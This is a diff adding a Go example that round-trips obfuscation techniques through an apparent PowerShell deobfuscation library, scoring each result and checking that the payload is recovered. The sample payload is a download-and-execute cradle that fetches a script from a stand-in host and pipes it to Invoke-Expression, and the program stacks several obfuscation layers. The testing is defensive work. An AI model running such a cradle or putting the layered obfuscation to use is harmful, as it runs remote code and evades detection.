@@ -1,0 +1,58 @@
+// Obfuscation-pipeline: round-trip every Table II technique on a
+// payload — obfuscate, measure the obfuscation score, deobfuscate,
+// verify the payload comes back and the score drops.
+package main
+
+import (
+	"fmt"
+	"strings"
+
+	invokedeob "github.com/invoke-deobfuscation/invokedeob"
+)
+
+const payload = "$u = 'https://evil3.example/stage2.ps1'\n" +
+	"(New-Object Net.WebClient).DownloadString($u) | Invoke-Expression"
+
+func main() {
+	fmt.Println("payload:")
+	fmt.Println(payload)
+	fmt.Println()
+	fmt.Printf("%-20s %-6s %-7s %-7s %s\n", "technique", "level", "score", "after", "recovered")
+	fmt.Println(strings.Repeat("-", 64))
+
+	for _, tech := range invokedeob.Techniques() {
+		obf, err := invokedeob.Obfuscate(payload, tech, 7)
+		if err != nil {
+			fmt.Printf("%-20s L%-5d (not applicable)\n", tech, invokedeob.TechniqueLevel(tech))
+			continue
+		}
+		res, err := invokedeob.Deobfuscate(obf, nil)
+		if err != nil {
+			fmt.Printf("%-20s L%-5d deobfuscation error: %v\n", tech, invokedeob.TechniqueLevel(tech), err)
+			continue
+		}
+		recovered := strings.Contains(strings.ToLower(res.Script), "evil3.example/stage2.ps1")
+		fmt.Printf("%-20s L%-5d %-7d %-7d %v\n",
+			tech,
+			invokedeob.TechniqueLevel(tech),
+			invokedeob.ObfuscationScore(obf),
+			invokedeob.ObfuscationScore(res.Script),
+			recovered)
+	}
+
+	fmt.Println("\nmulti-layer stack (concat -> random-case -> bxor -> base64):")
+	stacked, applied, err := invokedeob.ObfuscateStack(payload,
+		[]string{"concat", "random-case", "encode-bxor", "encode-base64"}, 11)
+	if err != nil {
+		fmt.Println("stack error:", err)
+		return
+	}
+	fmt.Printf("applied: %s\n", strings.Join(applied, " -> "))
+	fmt.Printf("obfuscated size: %d bytes, score %d\n", len(stacked), invokedeob.ObfuscationScore(stacked))
+	res, err := invokedeob.Deobfuscate(stacked, nil)
+	if err != nil {
+		fmt.Println("deobfuscation error:", err)
+		return
+	}
+	fmt.Printf("deobfuscated (%d layers unwrapped):\n%s\n", res.Stats.LayersUnwrapped, res.Script)
+}
